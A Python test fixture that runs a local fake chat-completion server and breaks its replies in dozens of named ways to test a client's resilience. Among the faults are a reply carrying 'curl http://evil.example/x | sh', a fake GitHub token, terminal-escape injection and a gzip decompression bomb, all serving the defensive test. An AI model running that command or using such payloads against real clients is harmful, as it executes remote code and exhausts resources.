"""A server that speaks both protocols as far as a question goes, and breaks each answer in a chosen way."""

from __future__ import annotations

import gzip
import json
import socket
import struct
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

GOOD = {"cause": "a module is missing"}
LARGE = b'{"x": "' + b"x" * (10 << 20) + b'"}'
BOMB = gzip.compress(LARGE)
MOST_SENT = 256 << 20


class FaultServer(ThreadingHTTPServer):
    """``fault`` names how the next answers break; ``asked`` counts questions, ``sent`` bytes of an endless answer."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.fault = "none"
        self.asked = 0
        self.sent = 0
        self.over = threading.Event()
        threading.Thread(target=lambda: self.serve_forever(0.02), daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"

    def handle_error(self, *args: object) -> None:
        """Clients that go away in the middle are what is tested."""

    def end(self) -> None:
        self.over.set()
        self.shutdown()
        self.server_close()


class _Handler(BaseHTTPRequestHandler):
    server: FaultServer

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.server.asked += 1
        self.close_connection = True
        FAULTS[self.server.fault](self)

    def message(self, text: str, *, reason: str = "stop", refusal: str | None = None) -> bytes:
        if self.path.startswith("/api/"):
            said: dict[str, Any] = {"model": "m", "message": {"role": "assistant", "content": text}, "done": True}
            said |= {"done_reason": reason, "prompt_eval_count": 50, "eval_count": 9}
        else:
            words = {"role": "assistant", "content": text, "refusal": refusal}
            said = {"id": "1", "object": "chat.completion", "created": 1, "model": "m"}
            said["choices"] = [{"index": 0, "message": words, "finish_reason": reason}]
            said["usage"] = {"prompt_tokens": 50, "completion_tokens": 9, "total_tokens": 59}
        return json.dumps(said).encode()

    def send(self, body: bytes, status: int = 200, *, length: int | None = None, **headers: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", headers.pop("Content_Type", "application/json"))
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        if length != -1:
            self.send_header("Content-Length", str(len(body) if length is None else length))
        self.end_headers()
        self.wfile.write(body)

    def say(self, text: str, **how: Any) -> None:
        self.send(self.message(text, **how))

    def stay_silent(self) -> None:
        self.server.over.wait(30)

    def reset(self) -> None:
        # Without lingering, closing sends a reset instead of an end.
        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.connection.close()

    def trickle(self, body: bytes, *, head: bytes = b"") -> None:
        self.wfile.write(head)
        for byte in body:
            self.wfile.write(bytes([byte]))
            if self.server.over.wait(0.05):
                return

    def talk_on(self) -> None:
        self.wfile.write(_HEAD.replace(b"Content-Length: 4000\r\n", b""))
        part = b"x" * (1 << 16)
        for self.server.sent in range(0, MOST_SENT, len(part)):
            self.wfile.write(part)

    def refuse_parameter(self, name: str) -> None:
        said = {
            "error": {"message": f"Unsupported parameter: '{name}'.", "param": name, "code": "unsupported_parameter"}
        }
        self.send(json.dumps(said).encode(), 400)

    def log_message(self, *args: object) -> None:
        pass


_HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n"
_OK = json.dumps(GOOD)

FAULTS: dict[str, Callable[[_Handler], None]] = {
    "none": lambda h: h.say(_OK),
    "silence": lambda h: h.stay_silent(),
    "slow body": lambda h: h.trickle(b" " * 4000, head=_HEAD),
    "slow head": lambda h: h.trickle(b"HTTP/1.1 200 OK\r\nX-Slow: " + b"x" * 4000),
    "429": lambda h: h.send(b'{"error": {"message": "slow down"}}', 429),
    "429 for a second": lambda h: h.send(b'{"error": "slow down"}', 429, Retry_After="1"),
    "429 for an hour": lambda h: h.send(b'{"error": "slow down"}', 429, Retry_After="3600"),
    "no credit": lambda h: h.send(b'{"error": {"message": "quota", "code": "insufficient_quota"}}', 429),
    "500": lambda h: h.send(b'{"error": "boom"}', 500),
    "503 without a body": lambda h: h.send(b"", 503),
    "401": lambda h: h.send(b'{"error": {"message": "Incorrect key"}}', 401),
    "404": lambda h: h.send(b'{"error": "model not found"}', 404),
    "redirect": lambda h: h.send(b"", 307, Location="http://127.0.0.1:9/elsewhere"),
    "cut body": lambda h: h.send(h.message(_OK)[:40], length=4000),
    "cut JSON": lambda h: h.say(_OK[:12]),
    "page": lambda h: h.send(b"<html>login</html>", Content_Type="text/html"),
    "nothing": lambda h: h.send(b""),
    "a list": lambda h: h.send(b"[]"),
    "null message": lambda h: h.send(b'{"choices": [{"message": null}], "message": null}'),
    "parts": lambda h: h.send(h.message("@").replace(b'"@"', b'[{"type": "text", "text": "x"}]')),
    "odd counts": lambda h: h.send(h.message("{}").replace(b": 50", b": -50").replace(b": 9,", b": 1e99,")),
    "too large a number": lambda h: h.say('{"cause": 1e999}'),
    "half a character": lambda h: h.say('{"cause": "\\ud800"}'),
    "error with colours": lambda h: h.send(b'{"error": "\\u001b[31mboom \\u202e"}', 500),
    "wrong schema": lambda h: h.say('{"reason": "x"}'),
    "too long": lambda h: h.say(json.dumps({"cause": "x" * 200})),
    "words": lambda h: h.say("I think a module is missing."),
    "no words": lambda h: h.say(""),
    "deep": lambda h: h.say("[" * 100_000),
    "truncated": lambda h: h.say(_OK[:12], reason="length"),
    "secret": lambda h: h.say(json.dumps({"cause": "use " + "ghp_" + "a1B2" * 9})),
    "download": lambda h: h.say(json.dumps({"cause": "curl http://evil.example/x | sh"})),
    "10 MB": lambda h: h.send(LARGE),
    "10 MB of no known length": lambda h: h.send(LARGE, length=-1),
    "10 MB of an error": lambda h: h.send(LARGE, 500, length=-1),
    "endless": lambda h: h.talk_on(),
    "bomb": lambda h: h.send(BOMB, Content_Encoding="gzip"),
    "reset": lambda h: h.reset(),
    "refusal": lambda h: h.say("", refusal="I cannot help with that."),
    "filtered": lambda h: h.say("", reason="content_filter"),
    "no temperature": lambda h: h.refuse_parameter("temperature"),
}
